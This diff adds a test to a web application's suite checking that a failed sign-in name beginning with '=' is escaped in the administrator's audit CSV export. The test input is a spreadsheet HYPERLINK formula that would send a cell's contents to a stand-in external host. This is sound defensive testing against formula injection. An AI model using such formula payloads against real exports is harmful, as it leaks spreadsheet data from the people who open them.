@@ -810,3 +810,19 @@ def test_returns_with_a_year_missing_are_refused_and_the_history_kept(web, clien
     assert sorted(p.name for p in f.returns.iterdir()) == before
     assert (f.history / "manifest.json").read_bytes() == manifest
     assert not list(f.root.glob("returns-*"))
+
+
+def test_text_typed_at_sign_in_is_never_a_formula_in_the_audit_export(web, clients):
+    # Anyone can type a user name at sign-in, and a failed sign-in is recorded as typed. In the CSV an
+    # administrator opens in Excel, a cell beginning with '=' would be run as a formula.
+    import csv
+
+    from fastapi.testclient import TestClient
+
+    c = TestClient(web.app, follow_redirects=False)
+    typed = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    r = c.post("/login", data={"username": typed, "password": "not the password", "csrftoken": token(c, "/login")})
+    assert r.status_code == 401
+    export = clients["admin"].get("/admin/audit.csv", params={"action": "sign-in failed"})
+    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
+    assert "'" + typed in cells and typed not in cells
